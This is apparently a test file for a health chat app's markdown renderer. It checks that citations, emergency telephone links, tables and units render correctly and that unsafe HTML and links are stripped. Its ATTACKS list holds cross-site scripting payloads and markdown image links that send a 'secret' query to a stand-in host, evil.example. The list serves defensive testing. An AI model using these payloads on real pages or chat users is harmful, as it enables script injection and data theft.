from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from healthchat.chat.markdown import TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[1](https://evil.example/)",
    "[1]: https://evil.example/\n\nSee [1].",
    "<https://evil.example/?q=secret>",
    "[a](//evil.example)",
    '[a](https://evil.example" onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| ![x](https://evil.example) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import 'https://evil.example'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\x00<script>alert(1)</script>",
    "# [x](vbscript:alert(1))",
    "<a id='source-1' name=x>",
    "tel:911 [call](tel:0900123)",
]


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in TAGS
        if tag == "a":
            assert re.fullmatch(r"#source-\d{1,3}|tel:[0-9-]+", attributes.pop("href") or "")
            assert attributes.keys() <= {"class", "data-citation", "aria-label"}
        else:
            assert attributes.keys() <= {"start"}


@pytest.mark.parametrize("text", ATTACKS)
def test_it_makes_nothing_that_loads_sends_or_runs(text: str) -> None:
    assert_harmless(render(text, citations={1}, anchor="source-", telephones=True))


@given(
    text=st.lists(
        st.sampled_from([*ATTACKS, *"[]()<>!`*_#|\n\\&;:/\"'", "[1]", "http://e.example", " ", "a", "911", "\u202e"]),
        max_size=12,
    ).map("".join)
)
def test_it_makes_nothing_harmful_of_any_mixture(text: str) -> None:
    assert_harmless(render(text, citations={1}, anchor="source-", telephones=True))


def test_it_shows_a_link_as_its_text_and_host() -> None:
    assert render("See [the guide](https://www.who.int/x?y=1).") == "<p>See the guide (www.who.int).</p>\n"


def test_it_links_the_markers_of_known_citations_only() -> None:
    html = render("It was 6.1 % [1][2].", citations={1}, anchor="source-")

    link = '<a class="citation" href="#source-1" data-citation="1" aria-label="Source 1">1</a>'
    assert html == f"<p>It was 6.1&nbsp;%&nbsp;{link}[2].</p>\n"


def test_it_does_not_link_a_marker_in_code() -> None:
    assert "<a" not in render("`[1]`", citations={1}, anchor="source-")


def test_it_keeps_headings_below_those_of_the_page() -> None:
    assert render("# A\n\n###### B") == "<h3>A</h3>\n<h6>B</h6>\n"


def test_it_makes_emergency_numbers_callable_where_asked_to() -> None:
    text = "**Call 911** or 116 123 now."

    assert render(text) == "<p><strong>Call 911</strong> or 116 123 now.</p>\n"
    assert render(text, telephones=True) == (
        '<p><strong>Call <a href="tel:911">911</a></strong> or <a href="tel:116123">116 123</a> now.</p>\n'
    )


@pytest.mark.parametrize("text", ["911.5 mg", "1.911", "9110", "988/60", "112 %".replace(" ", "")])
def test_it_does_not_take_a_measurement_for_a_telephone_number(text: str) -> None:
    assert "tel:" not in render(text, telephones=True)


@pytest.mark.parametrize("text", ["safe \u202egnp.exe", "safe &#x202e;gnp.exe", "\u2066safe\u2069 gnp.exe"])
def test_it_drops_characters_that_turn_text_around(text: str) -> None:
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", render(text))


def test_it_shows_tables() -> None:
    assert "<td>6.1</td>" in render("| HbA1c |\n|---|\n| 6.1 |\n")


def test_it_keeps_a_figure_on_one_line_with_its_unit() -> None:
    assert "7.9&nbsp;%" in render("It was 7.9 % then.")
    assert "146.5&nbsp;mg/dL" in render("It was 146.5 mg/dL.")
    assert "2 people" in render("We are 2 people.")
